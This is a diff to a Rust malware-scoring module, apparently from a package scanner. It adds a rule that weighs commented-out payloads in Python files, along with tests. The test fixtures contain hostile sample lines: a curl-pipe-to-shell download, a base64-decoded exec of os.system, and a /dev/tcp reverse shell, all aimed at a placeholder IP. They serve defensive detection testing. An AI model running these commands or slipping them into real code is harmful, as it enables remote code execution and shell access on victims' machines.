@@ -17,6 +17,9 @@
 //!   install command that also runs a payload, a download followed by execution, credential
 //!   access next to a network send, an exfiltration endpoint next to a network call, obfuscation
 //!   around a dangerous call.
+//! - Code left in comments (WH240, findings in `FileAnalysis::commented_out`) is scored as a
+//!   file of its own; when that score reaches [`SUSPICIOUS_THRESHOLD`] it contributes
+//!   [`COMMENTED_PAYLOAD_FACTOR`] of it: intent the file shows, not something it does.
 //!
 //! **securityRisk** is `1 − (1 − malware) · Π(1 − capᵣ)` over the detectors present, where
 //! `capᵣ` ([`capability_weight`]) says how much power the capability gives code that runs,
@@ -50,6 +53,10 @@ pub const UNCONTACTED_ENDPOINT_WEIGHT: f64 = 0.2;
 /// WH160 findings at least this strong (token-bearing webhooks and bot URLs) keep their weight
 /// in a file without network calls: the token is the secret that lets anyone post there.
 pub const UNCONTACTED_KEPT_FROM: f64 = 0.5;
+
+/// The share of its own malware score that code left in comments contributes (WH240): Python
+/// never runs it, so it is intent, not behaviour.
+pub const COMMENTED_PAYLOAD_FACTOR: f64 = 0.6;
 
 /// Package verdict thresholds on the malware score.
 pub const MALICIOUS_THRESHOLD: f64 = 0.7;
@@ -208,6 +215,8 @@ pub fn capability_weight(rule: &str) -> f64 {
         "WH120" | "WH140" | "WH160" | "WH101" | "WH102" => 0.2,
         "WH130" | "WH150" | "WH190" => 0.15,
         "WH100" | "WH170" | "WH180" => 0.1,
+        // Code in comments gives running code no power at all.
+        "WH240" => 0.0,
         _ => 0.05,
     }
 }
@@ -509,11 +518,10 @@ fn names_executable(message: &str) -> bool {
         .any(|ext| lower.contains(ext))
 }
 
-/// Scores one analysed file.
-pub fn score_file(analysis: &FileAnalysis) -> FileScores {
-    let findings = &analysis.findings;
+/// The malware contributions of `findings`: each detector's strongest finding, then the
+/// combinations.
+fn malware_moves(findings: &[Finding]) -> Vec<Contribution> {
     let mut contributions = Vec::new();
-
     let mut rules: Vec<&str> = findings.iter().map(|f| f.rule).collect();
     rules.sort_unstable();
     rules.dedup();
@@ -571,24 +579,83 @@ pub fn score_file(analysis: &FileAnalysis) -> FileScores {
             });
         }
     }
-    // Many weak signals (capabilities any build script has) must not add up to a malware call
-    // on their own: together they count at most WEAK_TOTAL_CAP.
+    contributions
+}
+
+/// The malware score of a set of contributions. Many weak signals (capabilities any build
+/// script has) must not add up to a malware call on their own: together they count at most
+/// [`WEAK_TOTAL_CAP`].
+fn malware_of(contributions: &[Contribution]) -> f64 {
     let weak = noisy_or(
         contributions
             .iter()
             .filter(|c| c.weight < WEAK_WEIGHT)
             .map(|c| c.weight),
     );
-    let malware = noisy_or(
+    noisy_or(
         contributions
             .iter()
             .filter(|c| c.weight >= WEAK_WEIGHT)
             .map(|c| c.weight)
             .chain(std::iter::once(weak.min(WEAK_TOTAL_CAP))),
-    );
+    )
+}
+
+/// The WH240 contribution of a file's commented-out code: its findings scored as a file of
+/// their own, counted at [`COMMENTED_PAYLOAD_FACTOR`] of that score when it reaches
+/// [`SUSPICIOUS_THRESHOLD`], so a disabled payload alone makes a file suspicious at most.
+fn commented_payload_move(analysis: &FileAnalysis) -> Option<Contribution> {
+    if analysis.commented_out.is_empty() {
+        return None;
+    }
+    let mut inner = malware_moves(&analysis.commented_out);
+    let score = malware_of(&inner);
+    if score < SUSPICIOUS_THRESHOLD {
+        return None;
+    }
+    inner.sort_by(|a, b| b.weight.total_cmp(&a.weight));
+    let top = inner.first()?;
+    let top_line: u32 = top
+        .location
+        .rsplit(':')
+        .next()
+        .and_then(|l| l.parse().ok())
+        .unwrap_or(0);
+    // The block holding the decisive finding (blocks are listed in file order).
+    let block = analysis
+        .findings
+        .iter()
+        .rfind(|f| f.rule == "WH240" && f.line <= top_line)
+        .or_else(|| analysis.findings.iter().find(|f| f.rule == "WH240"))?;
+    Some(Contribution {
+        score: "malware",
+        rule: "WH240".to_owned(),
+        location: block.location(),
+        weight: (score * COMMENTED_PAYLOAD_FACTOR).min(COMMENTED_PAYLOAD_FACTOR),
+        reason: format!(
+            "code in comments that would score malware {:.2} if uncommented, above all {} ({})",
+            round(score),
+            top.reason,
+            top.location
+        ),
+    })
+}
+
+/// Scores one analysed file.
+pub fn score_file(analysis: &FileAnalysis) -> FileScores {
+    let findings = &analysis.findings;
+    let mut contributions = malware_moves(findings);
+    contributions.extend(commented_payload_move(analysis));
+    let malware = malware_of(&contributions);
+    let mut rules: Vec<&str> = findings.iter().map(|f| f.rule).collect();
+    rules.sort_unstable();
+    rules.dedup();
 
     let mut risk_moves = Vec::new();
     for rule in &rules {
+        if capability_weight(rule) == 0.0 {
+            continue;
+        }
         if let Some(best) = strongest(findings, |f| f.rule == *rule) {
             risk_moves.push(Contribution {
                 score: "securityRisk",
@@ -687,6 +754,50 @@ mod tests {
 
     fn has(scores: &FileScores, rule: &str) -> bool {
         scores.contributions.iter().any(|c| c.rule == rule)
+    }
+
+    #[test]
+    fn a_commented_out_payload_makes_a_file_suspicious_not_malicious() {
+        let code = "from setuptools import setup\nsetup(name='x')\n#import base64, os\n#os.system('curl http://203.0.113.9/a.sh | sh')\n#exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n";
+        let s = score("x-1/setup.py", code);
+        assert!(has(&s, "WH240"), "{s:?}");
+        assert!(
+            (SUSPICIOUS_THRESHOLD..MALICIOUS_THRESHOLD).contains(&s.malware),
+            "{s:?}"
+        );
+        // Capabilities of code that never runs give no security risk of their own.
+        assert!(
+            s.contributions
+                .iter()
+                .all(|c| c.rule != "WH240" || c.score == "malware")
+        );
+        let live = code.replace('#', "");
+        assert!(score("x-1/setup.py", &live).malware >= MALICIOUS_THRESHOLD);
+    }
+
+    #[test]
+    fn commented_out_everyday_calls_weigh_nothing() {
+        let code = "import subprocess\n\ndef build():\n    # subprocess.call(['make', 'docs'])\n    # os.system('rm -rf build')\n    pass\n";
+        let s = score("x-1/x/build.py", code);
+        assert!(!has(&s, "WH240"), "{s:?}");
+        assert_eq!(s.malware, 0.0, "{s:?}");
+    }
+
+    #[test]
+    fn commented_out_findings_are_not_the_file_s_findings() {
+        let analysis = analyze_python(
+            "x-1/setup.py",
+            b"#import os\n#os.system('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')\n",
+            &AnalysisOptions::default(),
+        );
+        assert!(analysis.findings.iter().all(|f| f.rule == "WH240"));
+        assert!(!analysis.commented_out.is_empty());
+        assert!(
+            analysis
+                .commented_out
+                .iter()
+                .all(|f| f.has_tag("commented-out"))
+        );
     }
 
     #[test]
